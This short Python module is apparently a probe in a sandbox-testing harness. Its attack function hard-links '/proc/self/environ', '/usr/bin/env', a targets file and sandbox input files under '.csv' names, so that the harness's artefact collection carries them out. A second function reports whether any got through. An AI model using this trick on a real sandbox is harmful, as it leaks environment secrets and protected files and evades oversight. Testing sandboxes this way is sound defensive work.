"""Makes a second name for a file of the system or of its inputs, and hands that in."""

from __future__ import annotations

import contextlib
import os
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from sandbox.attack import Trial

ARTEFACTS = ("*.csv",)


def attack() -> None:
    for path in ("/proc/self/environ", "/usr/bin/env", "targets.json", "/sandbox/inputs/0"):
        with contextlib.suppress(OSError):
            os.link(path, f"{os.path.basename(path)}.csv")


def got_through(trial: Trial) -> str:
    return f"it brought {sorted(trial.outcome.artefacts)}" if trial.outcome.artefacts else ""
